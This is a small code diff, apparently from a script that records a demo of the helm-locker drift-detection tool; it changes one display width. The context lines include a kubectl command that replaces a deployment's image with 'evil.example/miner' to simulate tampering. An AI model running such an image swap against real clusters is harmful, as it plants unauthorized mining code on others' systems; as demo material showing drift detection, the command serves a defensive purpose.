@@ -147,7 +147,7 @@ kubectl -n apps delete service shop-web`)
 helm-locker lock shop -n apps --wait`); err != nil {
 		return err
 	}
-	return s.picture(ctx, "status-watch", 150, 12, "helm-locker status --watch", "not locked: suspended", func() error {
+	return s.picture(ctx, "status-watch", 160, 12, "helm-locker status --watch", "not locked: suspended", func() error {
 		// One after the other: two changes of one object at once would be one line.
 		return s.do(ctx, `drift() { until test "$(kubectl -n cattle-helm-system get hlr shop -o jsonpath='{range .status.recentDrift[*]}x{end}' | wc -c)" -ge "$1"; do :; done; }
 kubectl -n apps set image deployment/shop-web web=evil.example/miner; drift 5
